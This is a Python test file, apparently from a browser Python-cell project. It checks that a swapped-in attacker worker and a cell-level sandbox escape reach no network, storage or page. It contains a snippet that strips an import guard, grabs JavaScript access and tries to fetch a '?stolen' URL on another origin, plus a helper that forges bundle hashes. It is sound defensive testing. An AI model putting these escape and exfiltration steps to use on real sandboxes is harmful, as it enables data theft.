"""Attacks: what runs in the place of Python reaches neither network nor storage nor page, in any engine."""

import hashlib
import json
import re
from pathlib import Path

from livecells import offline
from livecells.assets import Assets

from ..browser.pages import FIRST, URL
from ..static_host import Host
from .reader import Reader

ATTACKS = Path(__file__).with_name("attacks.js").read_text("utf-8")


def attack_of(host: Host, other: Host) -> bytes:
    """Return the attacker's script."""
    script = next(host.root.glob("assets/livecells/bundle-*/frame.js")).relative_to(host.root).as_posix()
    names = {"ORIGIN": host.origin, "OTHER": other.origin, "SCRIPT": host.origin + script}
    return ("".join(f"const {name} = {json.dumps(value)};\n" for name, value in names.items()) + ATTACKS).encode()


def taken_for_right(script: bytes, attack: bytes) -> bytes:
    """Return a script of the bundle as if the attacker's had been built in the place of the worker's."""
    entry = re.compile(rb'("worker\.js":\{"?bytes"?:)\d+(,"?sha256"?:")[0-9a-f]+')
    return entry.sub(rb"\g<1>%d\g<2>%s" % (len(attack), hashlib.sha256(attack).hexdigest().encode()), script)


def refused(reader: Reader, host: Host, other: Host) -> None:
    """Run the attack on the page that is open, and prove that it reached nothing."""
    reader.run(FIRST)
    ended = reader.prints(FIRST)
    assert {name: how for name, how in ended.items() if not how.startswith("refused: ")} == {}
    assert [sent for sent in host.sent if "stolen" in sent.path] == []
    assert other.sent == []
    assert "stolen" not in reader.heard()


def test_a_worker_in_the_place_of_pythons_reaches_nothing(reader: Reader, host: Host, other: Host) -> None:
    """The attacker is JavaScript with a worker's full powers, in the frame that the site makes."""
    attack = attack_of(host, other)
    host.changed = {"/worker.js": lambda _: attack, ".js": lambda script: taken_for_right(script, attack)}
    for _ in range(2):  # the second finds what the first has left
        reader.visit(host.origin + URL)
        refused(reader, host, other)
        assert reader.script("return caches.keys()") == []


def test_a_worker_in_the_place_of_pythons_reaches_nothing_of_a_site_that_is_kept(
    reader: Reader, own: Host, other: Host, assets: Assets
) -> None:
    attack = attack_of(own, other)
    for path in own.root.glob("assets/livecells/bundle-*/*.js"):
        path.write_bytes(attack if path.name == "worker.js" else taken_for_right(path.read_bytes(), attack))
    offline.write(own.root, assets.workers, offered=True)
    reader.visit(own.origin + URL)
    reader.keep_site()
    before = reader.kept_site()
    (name,) = {each.rpartition(" ")[0] for each in before}
    for _ in range(2):
        reader.leave_edited(FIRST, name)
        refused(reader, own, other)
        assert reader.kept_site() == before


BREAK_OUT = """\
import json, sys
told = {}
try:
    import js
except ImportError as error:
    told["polite"] = str(error)
sys.meta_path[:] = [finder for finder in sys.meta_path if type(finder).__name__ != "_BlockingFinder"]
import js
def attempt(name, work):
    try:
        work()
        told[name] = "no error"
    except BaseException as error:
        told[name] = type(error).__name__
worker = js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.self))
attempt("fetch", lambda: js.fetch(ADDRESS))
attempt("the fetch below it", lambda: worker.fetch.call(js.self, ADDRESS))
attempt("the page", lambda: js.document)
attempt("the frame", lambda: js.parent)
attempt("localStorage", lambda: js.localStorage)
js.postMessage("stolen")
print(json.dumps(told))
"""


def test_a_cell_that_gets_hold_of_javascript_reaches_nothing(reader: Reader, host: Host, other: Host) -> None:
    reader.visit(host.origin + URL)
    reader.leave_edited(FIRST, f"ADDRESS = '{other.origin}?stolen'\n{BREAK_OUT}")
    reader.run(FIRST)
    told = reader.prints(FIRST)
    assert told["polite"] == "The page is out of reach in these examples"
    assert {told[name] for name in ("the page", "the frame", "localStorage")} == {"AttributeError"}
    reader.leave_edited(FIRST, "print('and after it')")  # time for what was sent to arrive
    reader.run(FIRST)
    assert other.sent == []
    assert "stolen" not in reader.heard()
